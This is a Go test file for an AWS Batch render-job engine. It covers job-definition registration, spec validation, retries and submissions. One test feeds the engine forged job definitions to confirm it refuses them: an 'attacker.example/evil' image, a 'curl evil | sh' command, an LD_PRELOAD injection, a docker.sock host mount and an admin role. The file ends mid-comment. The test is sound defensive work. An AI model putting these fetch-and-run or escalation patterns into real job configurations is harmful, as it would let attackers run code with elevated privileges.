package batch_test

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials"
	awsbatch "github.com/aws/aws-sdk-go-v2/service/batch"
	"github.com/aws/aws-sdk-go-v2/service/batch/types"

	"github.com/framefleet/framefleet/internal/batchtest"
	"github.com/framefleet/framefleet/pipeline"
	"github.com/framefleet/framefleet/pipeline/batch"
	"github.com/framefleet/framefleet/pipeline/plan"
)

const queue = "framefleet-queue"

func testSpec() batch.Spec {
	return batch.Spec{
		Name:           "framefleet-test",
		Image:          "123456789012.dkr.ecr.us-east-1.amazonaws.com/framefleet:1",
		VCPUs:          2,
		MemoryMiB:      4096,
		JobRoleARN:     "arn:aws:iam::123456789012:role/framefleet-job",
		BlenderVersion: "3.4.1",
	}
}

func awsConfig() aws.Config {
	return aws.Config{Region: "us-east-1", Credentials: credentials.NewStaticCredentialsProvider("AKID", "SECRET", "")}
}

// newEngine returns an engine talking to srv through the real SDK, after
// registering spec's job definition as `framefleet setup` does (the engine
// itself never registers).
func newEngine(t testing.TB, srv *batchtest.Server, spec batch.Spec) *batch.Engine {
	t.Helper()
	e := newEngineWithoutSetup(t, srv, spec)
	if spec.Registers() {
		if _, _, err := e.EnsureJobDefinition(context.Background(), spec); err != nil {
			t.Fatalf("setting up the job definition: %v", err)
		}
		srv.ResetCalls()
	}
	return e
}

// newEngineWithoutSetup returns an engine talking to srv through the real SDK.
func newEngineWithoutSetup(t testing.TB, srv *batchtest.Server, spec batch.Spec) *batch.Engine {
	t.Helper()
	e, err := batch.New(awsConfig(), batch.Options{
		Queue:      queue,
		Definition: spec,
		Endpoint:   srv.URL,
		MaxBackoff: 20 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func testJob(runID string, chunks int) pipeline.Job {
	return pipeline.Job{RunID: runID, StoreURI: "s3://bucket/renders", Chunks: chunks, Scene: "Scene"}
}

// wait polls Status until both jobs are terminal (or the render failed and
// the stitch followed).
func wait(t *testing.T, e *batch.Engine, h pipeline.Handle) pipeline.Status {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	for {
		st, err := e.Status(ctx, h)
		if err != nil {
			t.Fatalf("Status: %v", err)
		}
		if st.Render.Terminal() && st.Stitch.Terminal() {
			return st
		}
		select {
		case <-ctx.Done():
			t.Fatalf("run did not finish: last status %+v", st)
		case <-time.After(5 * time.Millisecond):
		}
	}
}

func TestEnsureJobDefinitionRegistersOnlyWhenSpecChanges(t *testing.T) {
	srv := batchtest.Start(t, batchtest.Options{})
	e := newEngineWithoutSetup(t, srv, testSpec())
	ctx := context.Background()

	base := testSpec()
	newImage := base
	newImage.Image += "-2"
	moreAttempts := newImage
	moreAttempts.Attempts = 5
	steps := []struct {
		name           string
		spec           batch.Spec
		wantRegistered bool
		wantRevision   int
	}{
		{"first ensure registers", base, true, 1},
		{"same spec reuses", base, false, 1},
		{"same spec again reuses", base, false, 1},
		{"new image registers", newImage, true, 2},
		{"unchanged after change reuses", newImage, false, 2},
		{"attempts change registers", moreAttempts, true, 3},
		{"going back reuses the ACTIVE revision with that spec", base, false, 1},
		{"and forward again reuses too", moreAttempts, false, 3},
	}
	for _, s := range steps {
		arn, registered, err := e.EnsureJobDefinition(ctx, s.spec)
		if err != nil {
			t.Fatalf("%s: %v", s.name, err)
		}
		if registered != s.wantRegistered {
			t.Errorf("%s: registered = %v, want %v", s.name, registered, s.wantRegistered)
		}
		if want := fmt.Sprintf(":job-definition/framefleet-test:%d", s.wantRevision); !strings.HasSuffix(arn, want) {
			t.Errorf("%s: arn %s, want revision %d", s.name, arn, s.wantRevision)
		}
	}
	if got := srv.Calls()["RegisterJobDefinition"]; got != 3 {
		t.Errorf("RegisterJobDefinition calls = %d, want 3", got)
	}
	if got := len(srv.JobDefinitions("framefleet-test")); got != 3 {
		t.Errorf("revisions = %d, want 3", got)
	}
}

// TestSubmitNeverRegisters: registering is setup's; an engine whose
// definition was never set up fails before submitting anything, naming
// `framefleet setup`, and once it is set up, each engine looks it up once.
func TestSubmitNeverRegisters(t *testing.T) {
	srv := batchtest.Start(t, batchtest.Options{})
	ctx := context.Background()
	_, err := newEngineWithoutSetup(t, srv, testSpec()).Submit(ctx, testJob("not-set-up", 2))
	if !errors.Is(err, batch.ErrDefinitionMismatch) || !strings.Contains(err.Error(), "framefleet setup") {
		t.Fatalf("Submit without setup: %v; want an error naming framefleet setup", err)
	}
	if c := srv.Calls(); c["RegisterJobDefinition"] != 0 || c["SubmitJob"] != 0 {
		t.Fatalf("calls %v: want no registration and no submission", c)
	}

	newEngine(t, srv, testSpec()) // setup
	for i := range 3 {            // three engines (three CLI invocations), two runs each
		e := newEngineWithoutSetup(t, srv, testSpec())
		for j := range 2 {
			h, err := e.Submit(ctx, testJob(fmt.Sprintf("run%d-%d", i, j), 2))
			if err != nil {
				t.Fatal(err)
			}
			wait(t, e, h)
		}
	}
	if got := srv.Calls()["RegisterJobDefinition"]; got != 0 {
		t.Errorf("RegisterJobDefinition calls = %d, want 0", got)
	}
	if got := srv.Calls()["DescribeJobDefinitions"]; got != 3 {
		t.Errorf("DescribeJobDefinitions calls = %d, want 3 (one per engine)", got)
	}
}

// TestSubmitRefusesRevisionsThatDifferFromTheSpec: a revision carrying the
// wanted spec's tag is used only when its contents match. Someone allowed to
// register (a branch's workflow, before the render role lost that right)
// could copy the tag onto a revision with their own image or privileges.
func TestSubmitRefusesRevisionsThatDifferFromTheSpec(t *testing.T) {
	forgeries := []struct {
		name   string
		forge  func(*types.ContainerProperties)
		reason string
	}{
		{"faithful copy", func(*types.ContainerProperties) {}, ""},
		// What Batch may hand back for the same request: numbers reformatted,
		// a default log configuration, variables without value.
		{"faithful copy as Batch normalises it", func(cp *types.ContainerProperties) {
			cp.ResourceRequirements = []types.ResourceRequirement{{Type: types.ResourceTypeMemory, Value: aws.String("4096")}, {Type: types.ResourceTypeVcpu, Value: aws.String("2.0")}}
			cp.LogConfiguration = &types.LogConfiguration{LogDriver: types.LogDriverAwslogs}
			cp.Environment = append(cp.Environment, types.KeyValuePair{Name: aws.String("UNSET"), Value: aws.String("")})
			cp.Privileged = aws.Bool(false)
		}, ""},
		{"logs elsewhere", func(cp *types.ContainerProperties) {
			cp.LogConfiguration = &types.LogConfiguration{LogDriver: types.LogDriverAwslogs, Options: map[string]string{"awslogs-group": "/elsewhere"}}
		}, "log group"},
		{"extra environment", func(cp *types.ContainerProperties) {
			cp.Environment = append(cp.Environment, types.KeyValuePair{Name: aws.String("LD_PRELOAD"), Value: aws.String("/tmp/x.so")})
		}, "environment"},
		{"other image", func(cp *types.ContainerProperties) { cp.Image = aws.String("attacker.example/evil:1") }, `image is "attacker.example/evil:1"`},
		{"other job role", func(cp *types.ContainerProperties) {
			cp.JobRoleArn = aws.String("arn:aws:iam::123456789012:role/admin")
		}, "job role"},
		{"other command", func(cp *types.ContainerProperties) { cp.Command = []string{"sh", "-c", "curl evil | sh"} }, "command"},
		{"privileged", func(cp *types.ContainerProperties) { cp.Privileged = aws.Bool(true) }, "privileged"},
		{"root", func(cp *types.ContainerProperties) { cp.User = aws.String("root") }, "runs as root"},
		{"no user (the image's, maybe root)", func(cp *types.ContainerProperties) { cp.User = nil }, "runs as root"},
		{"more memory", func(cp *types.ContainerProperties) {
			cp.ResourceRequirements = []types.ResourceRequirement{{Type: types.ResourceTypeVcpu, Value: aws.String("2")}, {Type: types.ResourceTypeMemory, Value: aws.String("65536")}}
		}, "resources"},
		{"host mount", func(cp *types.ContainerProperties) {
			cp.Volumes = []types.Volume{{Name: aws.String("docker"), Host: &types.Host{SourcePath: aws.String("/var/run/docker.sock")}}}
			cp.MountPoints = []types.MountPoint{{SourceVolume: aws.String("docker"), ContainerPath: aws.String("/var/run/docker.sock")}}
		}, "mounts volumes"},
	}
	for _, tc := range forgeries {
		t.Run(tc.name, func(t *testing.T) {
			srv := batchtest.Start(t, batchtest.Options{})
			ctx := context.Background()
			spec := testSpec()
			forged := forgedRegistration(spec, tc.forge)
			if _, err := rawClient(srv).RegisterJobDefinition(ctx, forged); err != nil {
				t.Fatal(err)
			}
			e := newEngineWithoutSetup(t, srv, spec)
			h, err := e.Submit(ctx, testJob("forged", 2))
			if tc.reason == "" { // a faithful copy is what setup registers: it is used
				if err != nil {
					t.Fatalf("Submit with a revision equal to the spec: %v", err)
				}
				wait(t, e, h)
				return
			}
			if !errors.Is(err, batch.ErrDefinitionMismatch) || !strings.Contains(err.Error(), "framefleet setup") ||
				!strings.Contains(err.Error(), "revision 1 carries the spec tag") || !strings.Contains(err.Error(), tc.reason) {
				t.Fatalf("Submit with a forged revision: %v; want a refusal naming revision 1, %q and framefleet setup", err, tc.reason)
			}
			if n := len(srv.Submissions()); n != 0 {
				t.Fatalf("%d jobs submitted with the forged revision", n)
			}

			// Setup (an administrator) registers a genuine revision; renders
			// then use it, never the newer-looking forgery beside it.
			arn, registered, err := e.EnsureJobDefinition(ctx, spec)
			if err != nil || !registered || !strings.HasSuffix(arn, ":2") {
				t.Fatalf("setup after the forgery: %s registered=%v %v; want revision 2 registered", arn, registered, err)
			}
			if _, err := rawClient(srv).RegisterJobDefinition(ctx, forged); err != nil { // revision 3, forged again
				t.Fatal(err)
			}
			e = newEngineWithoutSetup(t, srv, spec)
			h, err = e.Submit(ctx, testJob("genuine", 2))
			if err != nil {
				t.Fatal(err)
			}
			for _, sub := range srv.Submissions() {
				if !strings.HasSuffix(sub.JobDefinition, ":2") {
					t.Errorf("%s submitted with %s, want revision 2", sub.JobName, sub.JobDefinition)
				}
			}
			wait(t, e, h)
		})
	}
}

// forgedRegistration is the request setup would send for spec, tag
// included, changed by forge.
func forgedRegistration(spec batch.Spec, forge func(*types.ContainerProperties)) *awsbatch.RegisterJobDefinitionInput {
	env := []types.KeyValuePair{{Name: aws.String(batch.BlenderVersionEnv), Value: aws.String(spec.BlenderVersion)}}
	cp := &types.ContainerProperties{
		Image:       aws.String(spec.Image),
		User:        aws.String(batch.DefaultUser),
		Command:     []string{"worker", "render"},
		Environment: env,
		JobRoleArn:  aws.String(spec.JobRoleARN),
		ResourceRequirements: []types.ResourceRequirement{
			{Type: types.ResourceTypeVcpu, Value: aws.String("2")}, {Type: types.ResourceTypeMemory, Value: aws.String("4096")},
		},
	}
	forge(cp)
	return &awsbatch.RegisterJobDefinitionInput{
		JobDefinitionName:    aws.String(spec.Name),
		Type:                 types.JobDefinitionTypeContainer,
		ContainerProperties:  cp,
		PlatformCapabilities: []types.PlatformCapability{types.PlatformCapabilityEc2},
		RetryStrategy:        &types.RetryStrategy{Attempts: aws.Int32(3), EvaluateOnExit: batch.RetryRules()},
		Timeout:              &types.JobTimeout{AttemptDurationSeconds: aws.Int32(int32(batch.DefaultTimeout.Seconds()))},
		Tags:                 map[string]string{batch.SpecHashTag: spec.Hash(), batch.ManagedTag: "true"},
	}
}

// rawClient is a plain Batch client of srv, for what someone other than
// framefleet sends.
func rawClient(srv *batchtest.Server) *awsbatch.Client {
	return awsbatch.NewFromConfig(awsConfig(), func(o *awsbatch.Options) { o.BaseEndpoint = aws.String(srv.URL) })
}

func TestJobDefinitionContents(t *testing.T) {
	fargate := testSpec()
	fargate.Name = "ff-fargate"
	fargate.Platform = batch.PlatformFargate
	fargate.VCPUs, fargate.MemoryMiB = 1, 2048
	fargate.ExecutionRoleARN = "arn:aws:iam::123456789012:role/exec"
	fargate.AssignPublicIP = true
	gpu := testSpec()
	gpu.Name = "ff-gpu"
	gpu.GPUs = 1
	gpu.Environment = map[string]string{"EXTRA": "1"}
	optix := gpu
	optix.Name = "ff-optix"
	optix.Environment = map[string]string{batch.CyclesDeviceEnv: "OPTIX"}

	tests := []struct {
		name      string
		spec      batch.Spec
		platform  string
		resources map[string]string
		publicIP  string
		device    string // FRAMEFLEET_CYCLES_DEVICE
	}{
		{"ec2", testSpec(), "EC2", map[string]string{"VCPU": "2", "MEMORY": "4096", "GPU": ""}, "", ""},
		{"fargate", fargate, "FARGATE", map[string]string{"VCPU": "1", "MEMORY": "2048", "GPU": ""}, "ENABLED", ""},
		// Reserved GPUs are used: the worker is told to render on them.
		{"gpu", gpu, "EC2", map[string]string{"VCPU": "2", "MEMORY": "4096", "GPU": "1"}, "", "GPU"},
		{"gpu with device chosen", optix, "EC2", map[string]string{"VCPU": "2", "MEMORY": "4096", "GPU": "1"}, "", "OPTIX"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			srv := batchtest.Start(t, batchtest.Options{})
			e := newEngine(t, srv, tc.spec)
			if _, _, err := e.EnsureJobDefinition(context.Background(), tc.spec); err != nil {
				t.Fatal(err)
			}
			defs := srv.JobDefinitions(tc.spec.Name)
			if len(defs) != 1 {
				t.Fatalf("%d revisions registered, want 1", len(defs))
			}
			d := defs[0]
			if !slices.Equal(d.Command(), []string{"worker", "render"}) {
				t.Errorf("command %q, want [worker render]", d.Command())
			}
			if d.Image() != tc.spec.Image {
				t.Errorf("image %q, want %q", d.Image(), tc.spec.Image)
			}
			if got := d.Env()["FRAMEFLEET_BLENDER_VERSION"]; got != "3.4.1" {
				t.Errorf("FRAMEFLEET_BLENDER_VERSION = %q, want 3.4.1", got)
			}
			for k, v := range tc.spec.Environment {
				if d.Env()[k] != v {
					t.Errorf("env %s = %q, want %q", k, d.Env()[k], v)
				}
			}
			if !slices.Equal(d.PlatformCapabilities, []string{tc.platform}) {
				t.Errorf("platform %v, want %s", d.PlatformCapabilities, tc.platform)
			}
			for typ, want := range tc.resources {
				if got := d.Resource(typ); got != want {
					t.Errorf("resource %s = %q, want %q", typ, got, want)
				}
			}
			if got := d.FargateAssignPublicIP(); got != tc.publicIP {
				t.Errorf("assignPublicIp = %q, want %q", got, tc.publicIP)
			}
			if got := d.ExecutionRoleArn(); got != tc.spec.ExecutionRoleARN {
				t.Errorf("executionRoleArn = %q, want %q", got, tc.spec.ExecutionRoleARN)
			}
			if got := d.JobRoleArn(); got != tc.spec.JobRoleARN {
				t.Errorf("jobRoleArn = %q, want %q", got, tc.spec.JobRoleARN)
			}
			// The definition's timeout bounds the stitch (and renders sent without one).
			if got := d.TimeoutSeconds(); got != int(batch.DefaultTimeout.Seconds()) {
				t.Errorf("definition timeout = %d, want the default %s", got, batch.DefaultTimeout)
			}
			if got := d.ContainerProperties.User; got != batch.DefaultUser {
				t.Errorf("user = %q, want the image's unprivileged %s", got, batch.DefaultUser)
			}
			if got, ok := d.Env()[batch.CyclesDeviceEnv]; got != tc.device || ok != (tc.device != "") {
				t.Errorf("%s = %q (set %v), want %q", batch.CyclesDeviceEnv, got, ok, tc.device)
			}
			attempts, rules := d.Retry()
			if attempts != 3 {
				t.Errorf("retry attempts = %d, want 3", attempts)
			}
			wantRules := [][4]string{ // action, onStatusReason, onReason, onExitCode
				{"RETRY", "Host EC2*", "", ""},
				{"RETRY", "Task failed to start*", "", ""},
				{"RETRY", "", "CannotPullContainerError*", ""},
				{"RETRY", "", "", "75"},
				{"EXIT", "", "*", ""},
			}
			if !slices.Equal(rules, wantRules) {
				t.Errorf("evaluateOnExit = %q, want %q", rules, wantRules)
			}
			if len(d.Tags[batch.SpecHashTag]) != 64 {
				t.Errorf("tag %s = %q, want a SHA-256", batch.SpecHashTag, d.Tags[batch.SpecHashTag])
			}
		})
	}
}

func TestSpecValidation(t *testing.T) {
	tests := []struct {
		name string
		edit func(*batch.Spec)
		want string // part of the error; "" = valid
	}{
		{"valid", func(*batch.Spec) {}, ""},
		{"bad name", func(s *batch.Spec) { s.Name = "frame fleet" }, "job definition name"},
		{"too many attempts", func(s *batch.Spec) { s.Attempts = 11 }, "1 to 10"},
		{"ec2 memory below the minimum", func(s *batch.Spec) { s.MemoryMiB = 256 }, "at least 512"},
		{"ec2 memory at the minimum", func(s *batch.Spec) { s.MemoryMiB = 512 }, ""},
		{"fractional ec2 vcpus", func(s *batch.Spec) { s.VCPUs = 1.5 }, "whole number"},
		{"reserved env", func(s *batch.Spec) { s.Environment = map[string]string{"AWS_BATCH_X": "1"} }, "AWS_BATCH"},
		{"fargate without execution role", func(s *batch.Spec) {
			s.Platform, s.VCPUs, s.MemoryMiB = batch.PlatformFargate, 1, 2048
		}, "execution role"},
		{"fargate bad combination", func(s *batch.Spec) {
			s.Platform, s.VCPUs, s.MemoryMiB, s.ExecutionRoleARN = batch.PlatformFargate, 1, 1024, "arn:x"
		}, "not a Fargate combination"},
		{"fargate gpu", func(s *batch.Spec) {
			s.Platform, s.VCPUs, s.MemoryMiB, s.ExecutionRoleARN, s.GPUs = batch.PlatformFargate, 2, 4096, "arn:x", 1
		}, "no GPUs"},
		{"unknown platform", func(s *batch.Spec) { s.Platform = "LAMBDA" }, "unknown platform"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s := testSpec()
			tc.edit(&s)
			err := s.Validate()
			switch {
			case tc.want == "" && err != nil:
				t.Fatalf("unexpected error: %v", err)
			case tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)):
				t.Fatalf("error %v, want one mentioning %q", err, tc.want)
			}
		})
	}
}

// scenarioExecutor records what each attempt saw and exits as exit says.
type scenarioExecutor struct {
	mu   sync.Mutex
	seen []batchtest.ExecJob
	exit func(batchtest.ExecJob) int
}

func (x *scenarioExecutor) run(ctx context.Context, j batchtest.ExecJob) (int, error) {
	x.mu.Lock()
	x.seen = append(x.seen, j)
	x.mu.Unlock()
	if err := ctx.Err(); err != nil {
		return -1, err
	}
	if x.exit == nil {
		return 0, nil
	}
	return x.exit(j), nil
}

func isStitch(j batchtest.ExecJob) bool { return slices.Equal(j.Command, []string{"worker", "stitch"}) }

func TestRunScenarios(t *testing.T) {
	one := 1
	tests := []struct {
		name    string
		chunks  int
		exit    func(batchtest.ExecJob) int
		reclaim func(batchtest.ExecJob) bool
		// want
		render, stitch   pipeline.JobState
		childAttempts    map[int]int // child index → attempts made
		failures         []pipeline.ChildFailure
		stitchReasonPart string
	}{
		{
			name: "all succeed", chunks: 4,
			render: pipeline.StateSucceeded, stitch: pipeline.StateSucceeded,
			childAttempts: map[int]int{0: 1, 1: 1, 2: 1, 3: 1},
		},
		{
			name: "spot reclaim is retried", chunks: 3,
			reclaim: func(j batchtest.ExecJob) bool { return j.ArrayIndex == 1 && j.Attempt == 1 },
			render:  pipeline.StateSucceeded, stitch: pipeline.StateSucceeded,
			childAttempts: map[int]int{0: 1, 1: 2, 2: 1},
		},
		{
			name: "exit 1 is not retried", chunks: 3,
			exit: func(j batchtest.ExecJob) int {
				if j.ArrayIndex == 2 {
					return 1
				}
				return 0
			},
			render: pipeline.StateFailed, stitch: pipeline.StateFailed,
			childAttempts:    map[int]int{0: 1, 1: 1, 2: 1},
			failures:         []pipeline.ChildFailure{{Index: 2, Attempts: 1, Reason: "Essential container in task exited", ExitCode: &one}},
			stitchReasonPart: "Dependent Job failed",
		},
		{
			name: "transient exit 75 is retried", chunks: 2,
			exit: func(j batchtest.ExecJob) int {
				if j.ArrayIndex == 0 && j.Attempt == 1 {
					return 75
				}
				return 0
			},
			render: pipeline.StateSucceeded, stitch: pipeline.StateSucceeded,
			childAttempts: map[int]int{0: 2, 1: 1},
		},
		{
			name: "transient exit 75 stops after the definition's attempts", chunks: 2,
			exit: func(j batchtest.ExecJob) int {
				if j.ArrayIndex == 1 {
					return 75
				}
				return 0
			},
			render: pipeline.StateFailed, stitch: pipeline.StateFailed,
			childAttempts:    map[int]int{0: 1, 1: 3},
			failures:         []pipeline.ChildFailure{{Index: 1, Attempts: 3, Reason: "Essential container in task exited", ExitCode: ptr(75)}},
			stitchReasonPart: "Dependent Job failed",
		},
		{
			name: "stitch failure is reported", chunks: 2,
			exit: func(j batchtest.ExecJob) int {
				if isStitch(j) {
					return 1
				}
				return 0
			},
			render: pipeline.StateSucceeded, stitch: pipeline.StateFailed,
			childAttempts:    map[int]int{0: 1, 1: 1},
			failures:         []pipeline.ChildFailure{{Index: -1, Attempts: 1, Reason: "Essential container in task exited", ExitCode: &one}},
			stitchReasonPart: "Essential container in task exited",
		},
		{
			name: "one chunk is a plain job", chunks: 1,
			render: pipeline.StateSucceeded, stitch: pipeline.StateSucceeded,
			childAttempts: map[int]int{0: 1},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			x := &scenarioExecutor{exit: tc.exit}
			srv := batchtest.Start(t, batchtest.Options{Executor: x.run})
			if tc.reclaim != nil {
				srv.SetReclaim(func(j batchtest.ExecJob) bool { return !isStitch(j) && tc.reclaim(j) })
			}
			e := newEngine(t, srv, testSpec())
			job := testJob("run-"+strings.ReplaceAll(tc.name, " ", "-"), tc.chunks)
			job.Env = map[string]string{"AWS_ENDPOINT_URL_S3": "http://127.0.0.1:9000"}
			h, err := e.Submit(context.Background(), job)
			if err != nil {
				t.Fatal(err)
			}
			st := wait(t, e, h)
			if st.Render != tc.render || st.Stitch != tc.stitch {
				t.Fatalf("render %s, stitch %s; want %s, %s (status %+v)", st.Render, st.Stitch, tc.render, tc.stitch, st)
			}
			// Children counts are Batch's statusSummary.
			if got := st.Children[pipeline.StateSucceeded] + st.Children[pipeline.StateFailed]; got != tc.chunks {
				t.Errorf("children counted %v, want %d terminal", st.Children, tc.chunks)
			}
			for idx, want := range tc.childAttempts {
				id := fmt.Sprintf("%s:%d", h.RenderID, idx)
				if tc.chunks == 1 {
					id = h.RenderID
				}
				if got := srv.Attempts(id); got != want {
					t.Errorf("child %d made %d attempts, want %d", idx, got, want)
				}
				if got := countAttempts(st.Attempts, idx); got != want {
					t.Errorf("Status.Attempts has %d attempts of child %d, want %d", got, idx, want)
				}
			}
			checkFailures(t, st.Failures, tc.failures)
			if !strings.Contains(st.StitchReason, tc.stitchReasonPart) || (tc.stitchReasonPart == "") != (st.StitchReason == "") {
				t.Errorf("stitch reason %q, want it to contain %q", st.StitchReason, tc.stitchReasonPart)
			}
			for _, a := range st.Attempts {
				if a.VCPUs != 2 || a.StoppedAt.Before(a.StartedAt) || a.StartedAt.IsZero() {
					t.Errorf("attempt %+v: want 2 vCPUs and a start before its stop", a)
				}
			}
			checkExecEnv(t, x, job, tc.chunks)
			wantSize := tc.chunks
			if tc.chunks == 1 {
				wantSize = 0 // Batch refuses arrays of one: a plain job
			}
			if got := srv.Submissions()[0].ArraySize; got != wantSize {
				t.Errorf("render submitted with array size %d, want %d", got, wantSize)
			}
		})
	}
}

func ptr[T any](v T) *T { return &v }

func countAttempts(as []pipeline.Attempt, index int) int {
	n := 0
	for _, a := range as {
		if a.Index == index {
			n++
		}
	}
	return n
}

func checkFailures(t *testing.T, got, want []pipeline.ChildFailure) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("failures %+v, want %+v", got, want)
	}
	for i := range want {
		g, w := got[i], want[i]
		if g.Index != w.Index || g.Attempts != w.Attempts || !strings.Contains(g.Reason, w.Reason) {
			t.Errorf("failure %d = %+v, want %+v", i, g, w)
		}
		if (g.ExitCode == nil) != (w.ExitCode == nil) || (g.ExitCode != nil && *g.ExitCode != *w.ExitCode) {
			t.Errorf("failure %d exit code %v, want %v", i, deref(g.ExitCode), deref(w.ExitCode))
		}
		if g.LogStream == "" {
			t.Errorf("failure %d has no log stream", i)
		}
	}
}

func deref(p *int) any {
	if p == nil {
		return nil
	}
	return *p
}

// checkExecEnv asserts what the containers saw: the run's store and ID, the
// job's extra env, Batch's array variables, and the command per stage.
func checkExecEnv(t *testing.T, x *scenarioExecutor, job pipeline.Job, chunks int) {
	t.Helper()
	x.mu.Lock()
	defer x.mu.Unlock()
	renders := map[int]bool{}
	stitches := 0
	for _, j := range x.seen {
		if j.Env["FRAMEFLEET_STORE"] != job.StoreURI || j.Env["FRAMEFLEET_RUN_ID"] != job.RunID {
			t.Errorf("%s saw store %q run %q", j.JobID, j.Env["FRAMEFLEET_STORE"], j.Env["FRAMEFLEET_RUN_ID"])
		}
		if j.Env["AWS_ENDPOINT_URL_S3"] != job.Env["AWS_ENDPOINT_URL_S3"] || j.Env["FRAMEFLEET_BLENDER_VERSION"] != "3.4.1" {
			t.Errorf("%s lacks the job's or the definition's environment: %v", j.JobID, j.Env)
		}
		if isStitch(j) {
			stitches++
			if j.JobName != "ff-"+job.RunID+"-stitch" {
				t.Errorf("stitch job name %q", j.JobName)
			}
			continue
		}
		if !slices.Equal(j.Command, []string{"worker", "render"}) {
			t.Errorf("render command %q", j.Command)
		}
		if chunks > 1 {
			if j.Env["AWS_BATCH_JOB_ARRAY_INDEX"] != fmt.Sprint(j.ArrayIndex) || j.Env["AWS_BATCH_JOB_ARRAY_SIZE"] != fmt.Sprint(chunks) {
				t.Errorf("child %s saw index %q size %q", j.JobID, j.Env["AWS_BATCH_JOB_ARRAY_INDEX"], j.Env["AWS_BATCH_JOB_ARRAY_SIZE"])
			}
			renders[j.ArrayIndex] = true
		} else {
			if _, ok := j.Env["AWS_BATCH_JOB_ARRAY_INDEX"]; ok {
				t.Errorf("plain job saw AWS_BATCH_JOB_ARRAY_INDEX")
			}
			renders[0] = true
		}
	}
	if len(renders) != chunks {
		t.Errorf("%d chunks ran, want %d", len(renders), chunks)
	}
	if stitches > 1 {
		t.Errorf("stitch ran %d times", stitches)
	}
}

func TestSubmitRequests(t *testing.T) {
	srv := batchtest.Start(t, batchtest.Options{})
	e := newEngine(t, srv, testSpec())
	job := testJob("2026-11-21T08.00 run/1", 5)
	job.AttemptTimeout = 10 * time.Minute
	h, err := e.Submit(context.Background(), job)
	if err != nil {
		t.Fatal(err)
	}
	subs := srv.Submissions()
	if len(subs) != 2 {
		t.Fatalf("%d submissions, want 2", len(subs))
	}
	render, stitch := subs[0], subs[1]
	if render.JobID != h.RenderID || stitch.JobID != h.StitchID || h.Engine != "batch" {
		t.Errorf("handle %+v does not match submissions", h)
	}
	if render.JobName != "ff-2026-11-21T08_00_run_1-render" || stitch.JobName != "ff-2026-11-21T08_00_run_1-stitch" {
		t.Errorf("job names %q, %q", render.JobName, stitch.JobName)
	}
	if render.ArraySize != 5 || stitch.ArraySize != 0 {
		t.Errorf("array sizes %d, %d; want 5, 0", render.ArraySize, stitch.ArraySize)
	}
	if render.RetryOverride || stitch.RetryOverride {
		t.Error("SubmitJob sent a retryStrategy, which would replace the definition's evaluateOnExit rules")
	}
	if !slices.Equal(stitch.DependsOn, []batchtest.Dependency{{JobID: h.RenderID}}) || len(render.DependsOn) != 0 {
		t.Errorf("dependsOn render %v stitch %v; want stitch on the render with no type", render.DependsOn, stitch.DependsOn)
	}
	if !slices.Equal(stitch.Command, []string{"worker", "stitch"}) || render.Command != nil {
		t.Errorf("command overrides render %q stitch %q", render.Command, stitch.Command)
	}
	if !render.HasTimeoutOption || render.TimeoutSeconds != 600 {
		t.Errorf("render timeout %d, want 600", render.TimeoutSeconds)
	}
	// The stitch encodes every frame: a chunk's budget does not apply to it.
	if stitch.HasTimeoutOption {
		t.Errorf("stitch sent with a %d s timeout, want none", stitch.TimeoutSeconds)
	}
	// The definition's default bounds the stitch (and renders sent without one).
	if d := srv.JobDefinitions("framefleet-test"); len(d) != 1 || d[0].TimeoutSeconds() != int(batch.DefaultTimeout.Seconds()) {
		t.Errorf("definition timeout %+v, want the default %s", d, batch.DefaultTimeout)
	}
	for _, s := range subs {
		if s.Tags["framefleet-run"] != job.RunID || s.Tags["framefleet-scene"] != "Scene" {
			t.Errorf("%s tags %v", s.JobName, s.Tags)
		}
		if s.Env["FRAMEFLEET_STORE"] != job.StoreURI || s.Env["FRAMEFLEET_RUN_ID"] != job.RunID {
			t.Errorf("%s env %v", s.JobName, s.Env)
		}
	}
}

func TestSubmitRejectsBadJobsBeforeCallingBatch(t *testing.T) {
	tests := []struct {
		name string
		job  pipeline.Job
		want string
	}{
		{"too many chunks", testJob("r", plan.MaxArraySize+1), "more than the 10000"},
		{"no chunks", testJob("r", 0), "at least one"},
		{"no store", pipeline.Job{RunID: "r", Chunks: 2}, "no store"},
		{"no run", pipeline.Job{StoreURI: "s3://b", Chunks: 2}, "no run ID"},
		{"short timeout", func() pipeline.Job { j := testJob("r", 2); j.AttemptTimeout = time.Second; return j }(), "at least 1m per attempt"},
		{"reserved env", func() pipeline.Job {
			j := testJob("r", 2)
			j.Env = map[string]string{"AWS_BATCH_JOB_ID": "x"}
			return j
		}(), "AWS_BATCH"},
		{"attempts out of range", func() pipeline.Job { j := testJob("r", 2); j.Attempts = 11; return j }(), "1 to 10"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			srv := batchtest.Start(t, batchtest.Options{})
			e := newEngine(t, srv, testSpec())
			_, err := e.Submit(context.Background(), tc.job)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %v, want one mentioning %q", err, tc.want)
			}
			if n := srv.Calls()["SubmitJob"]; n != 0 {
				t.Errorf("%d SubmitJob calls for a rejected job", n)
			}
		})
	}
}

func TestMaxArraySizeIsAccepted(t *testing.T) {
	srv := batchtest.Start(t, batchtest.Options{Executor: func(ctx context.Context, _ batchtest.ExecJob) (int, error) {
		<-ctx.Done() // keep the children queued; the test only submits
		return 1, ctx.Err()
	}, MaxRunning: 1})
	e := newEngine(t, srv, testSpec())
	h, err := e.Submit(context.Background(), testJob("big", plan.MaxArraySize))
	if err != nil {
		t.Fatal(err)
	}
	if subs := srv.Submissions(); subs[0].ArraySize != plan.MaxArraySize {
		t.Errorf("array size %d", subs[0].ArraySize)
	}
	if err := e.Cancel(context.Background(), h, "test over"); err != nil {
		t.Fatal(err)
	}
}

// TestJobAttemptsOverrideKeepsTheRules: a job asking for another number of
// attempts sends a retryStrategy with the render (it replaces the
